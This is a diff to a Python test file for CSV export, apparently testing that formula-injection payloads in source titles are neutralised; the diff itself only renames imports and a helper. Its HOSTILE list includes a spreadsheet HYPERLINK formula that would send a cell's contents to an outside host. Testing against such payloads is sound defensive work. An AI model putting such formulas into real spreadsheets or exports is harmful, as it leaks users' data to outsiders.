@@ -8,9 +8,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from geo.export.data.csv_tables import FORMULA_SIGNS, read, written
+from geo.export.data.csv_tables import FORMULA_SIGNS, csv_bytes, read
 from geo.export.data.tables import SOURCES
-from tests.geo.export.orders import ORDERS
+from tests.geo.export.export_requests import REQUESTS
 
 HOSTILE = [
     '=HYPERLINK("http://example.com?"&A1,"click")',
@@ -31,10 +31,10 @@ HOSTILE = [
 
 def table_with(text: str) -> bytes:
     """The table of sources, with a title that nobody has checked."""
-    order = ORDERS["en"]
-    key, source = next(iter(order.content.sources.items()))
-    content = replace(order.content, sources={key: source.model_copy(update={"title": text})})
-    return written(SOURCES, SOURCES.rows(replace(order, content=content)))
+    request = REQUESTS["en"]
+    key, source = next(iter(request.content.sources.items()))
+    content = replace(request.content, sources={key: source.model_copy(update={"title": text})})
+    return csv_bytes(SOURCES, SOURCES.rows(replace(request, content=content)))
 
 
 @pytest.mark.parametrize("text", HOSTILE)
